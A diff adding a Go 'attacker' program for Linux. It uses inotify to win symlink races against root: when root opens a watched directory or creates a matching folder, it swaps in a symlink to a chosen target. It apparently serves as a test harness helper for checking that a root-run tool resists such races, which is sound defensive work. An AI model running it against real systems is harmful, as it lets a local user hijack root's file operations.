@@ -1,0 +1,68 @@
+//go:build linux
+
+// Attacker is what a local user runs against root: it waits until root touches something, and then redirects a path.
+//
+//	attacker open DIR LINK TARGET      when somebody opens DIR, LINK becomes a link to TARGET
+//	attacker folder DIR PART TARGET    each new folder in DIR with PART in its name becomes a link to TARGET
+//
+// It prints a line when it is ready, and one for each time that it has done so.
+package main
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+func main() {
+	verb, dir, name, target := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
+	mask := map[string]uint32{"open": unix.IN_OPEN, "folder": unix.IN_CREATE}[verb]
+	fd, err := unix.InotifyInit1(0)
+	check(err)
+	_, err = unix.InotifyAddWatch(fd, dir, mask)
+	check(err)
+	spare := filepath.Join(filepath.Dir(dir), "spare")
+	if verb == "open" {
+		spare = name + ".spare"
+	}
+	os.Remove(spare)
+	check(os.Symlink(target, spare))
+	fmt.Println("ready")
+	buf := make([]byte, 64<<10)
+	for {
+		n, err := unix.Read(fd, buf)
+		check(err)
+		for b := buf[:n]; len(b) > 0; {
+			e := (*unix.InotifyEvent)(unsafe.Pointer(&b[0]))
+			made := strings.TrimRight(string(b[unix.SizeofInotifyEvent:unix.SizeofInotifyEvent+e.Len]), "\x00")
+			b = b[unix.SizeofInotifyEvent+e.Len:]
+			switch {
+			case verb == "open":
+				if os.Rename(spare, name) == nil {
+					fmt.Println("done")
+				}
+				return
+			case strings.Contains(made, name):
+				if swap(filepath.Join(dir, made), spare) {
+					fmt.Println("done")
+				}
+			}
+		}
+	}
+}
+
+// swap exchanges a folder of root's, in a directory of ours, for a copy of the link.
+func swap(folder, link string) bool {
+	return unix.Renameat2(unix.AT_FDCWD, link, unix.AT_FDCWD, folder, unix.RENAME_EXCHANGE) == nil
+}
+
+func check(err error) {
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+}
